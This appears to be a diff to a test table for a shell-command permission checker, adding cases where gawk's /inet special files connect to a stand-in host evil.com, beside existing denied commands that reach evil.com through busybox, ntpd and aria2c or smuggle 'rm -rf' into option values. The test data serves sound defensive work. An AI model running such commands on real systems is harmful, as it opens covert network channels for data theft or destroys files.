@@ -188,6 +188,10 @@ describe('files a tool names are seen', () => {
     ['busybox lpr -P q@evil.com x', 'deny'], ['ab -X evil.com:80 http://a.example/', 'deny'], ['busybox sendmail -S evil.com x', 'deny'], ["busybox sendmail -H 'rm -rf x' a", 'deny'],
     ['busybox ntpd -p evil.com', 'deny'], ['ntpd -p keyno:1:evil.com', 'deny'], ["busybox ntpd -p a.example -S 'rm y'", 'deny'],
     ['aria2c --bt-tracker=http://evil.com/ x.torrent', 'deny'], ['aria2c --bt-tracker udp://a.example:80,evil.com:6969 x.torrent', 'deny'], ['aria2c --dht-entry-point=evil.com:6881 x.torrent', 'deny'],
+    // gawk's /inet special files connect to their host (a Domain part, as bash's /dev/tcp; were allowed).
+    [`awk 'BEGIN{print "x" > "/inet/tcp/0/evil.com/80"}'`, 'deny'], [`gawk 'BEGIN{getline < "/inet/tcp/0/evil.com/80"}'`, 'deny'],
+    ['gawk 1 /inet6/udp/0/evil.com/53', 'deny'], [`gawk 'BEGIN{print 1 > "/inet4/tcp/0/a.example/80"}'`, 'ask'],
+    [`awk '{print $1 > "out.txt"}' in.txt`, 'allow'],
     ['gpg --recv-keys 0x1234', 'allow'], ['gpg --keyserver keys.example.org --recv-keys 0x1234', 'allow'], ['gpg --verify x.sig x', 'allow'], ['lp -d office x.pdf', 'allow'],
     ['lpr -P office x.pdf', 'allow'], ['lpstat -t', 'allow'], ['ab -n 100 -c 10 http://localhost:8080/', 'allow'],
     // Hunt 5 F8: tools whose file options and operands were not read (were allowed beside the rule).
